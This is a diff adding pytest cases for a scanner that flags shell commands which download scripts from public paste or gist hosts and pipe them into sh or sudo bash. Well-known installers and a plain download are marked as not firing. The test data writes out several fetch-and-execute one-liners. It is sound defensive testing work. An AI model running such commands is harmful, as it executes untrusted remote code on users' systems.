@@ -94,3 +94,15 @@ def test_look_alikes_are_not_weakenings(script: str) -> None:
 ])
 def test_a_plain_http_download_into_a_shell_from_outside_the_network(script: str, fires: bool) -> None:
     assert bool(dangers(script)) is fires
+
+
+@pytest.mark.parametrize(("script", "fires"), [
+    ("curl -fsSL https://gist.githubusercontent.com/ci-helper/4f2e/raw/setup.sh | sh", True),
+    ("wget -qO- https://pastebin.com/raw/Xy12Ab | sudo bash", True),
+    ('sh -c "$(curl -fsSL https://tools-team.herokuapp.com/bootstrap.sh)"', True),
+    ("curl -fsSL https://get.docker.com | sh", False),
+    ("curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", False),
+    ("curl -fsSL -o setup.sh https://gist.githubusercontent.com/ci-helper/4f2e/raw/setup.sh", False),
+])
+def test_a_download_from_where_anyone_publishes_into_a_shell(script: str, fires: bool) -> None:
+    assert bool(dangers(script)) is fires
